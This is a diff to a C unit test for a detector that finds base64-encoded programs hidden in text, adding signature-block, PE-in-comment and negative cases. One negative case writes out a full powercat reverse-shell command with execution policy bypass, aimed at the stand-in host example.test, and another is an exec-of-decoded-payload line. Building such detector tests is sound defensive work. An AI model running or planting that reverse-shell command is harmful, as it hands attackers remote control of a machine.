@@ -423,6 +423,47 @@ static const payload_case cases[] = {
     {"no: empty", "", ""},
     {"no: one", "A", ""},
     {"no: padding alone", "====", ""},
+    {"no: signature behind # ",
+     "# MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012# "
+     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012# "
+     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012# "
+     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012# "
+     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012# "
+     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012# "
+     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012# "
+     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012# End signature block",
+     ""},
+    {"no: signature behind '' SIG '' ",
+     "'' SIG '' MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012'' SIG '' "
+     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012'' SIG '' "
+     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012'' SIG '' "
+     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012'' SIG '' "
+     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012'' SIG '' "
+     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012'' SIG '' "
+     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012'' SIG '' "
+     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012'' SIG '' End signature block",
+     ""},
+    {"no: signature behind // SIG // ",
+     "// SIG // MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012// SIG // "
+     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012// SIG // "
+     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012// SIG // "
+     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012// SIG // "
+     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012// SIG // "
+     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012// SIG // "
+     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012// SIG // "
+     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012// SIG // End signature block",
+     ""},
+    {"program in a comment",
+     "# TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\012# "
+     "AAAAAAAAAAAAAAAAQAAAAFBFAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhsc\012# "
+     "HR4fICEiIyQlJidNWgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\012# "
+     "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAAAAUEUAAAECAwQFBgcICQoLDA0ODxAR\012# "
+     "EhMUFRYXGBkaGxwdHh8gISIjJCUmJw==\012# end",
+     "pe (base64) 214 bytes\012"},
+    {"no: option of powercat",
+     "powershell -Exec Bypass . C:\\t\\nc.ps1;powercat -c example.test -p 80 -e cmd", ""},
+    {"no: name of a variable", "Function Base64Decode(ByVal base64String)", ""},
+    {"no: call with a variable", "exec(b64decode(payload))", ""},
 };
 
 static void note(void *context, const kk_payload *p)
@@ -443,8 +484,7 @@ static void finds(kk_arena *arena, const payload_case *c, kk_slice text)
     kk_arena_reset(arena);
     assert_true(kk_payloads_find(arena, text, note, &out));
     if (!kk_is(kk_buffer_slice(&out), c->found))
-        fail_msg("%s: expected\n%sfound\n%.*s", c->name, c->found,
-                      KK_P(kk_buffer_slice(&out)));
+        fail_msg("%s: expected\n%sfound\n%.*s", c->name, c->found, KK_P(kk_buffer_slice(&out)));
     kk_buffer_close(&out);
 }
 
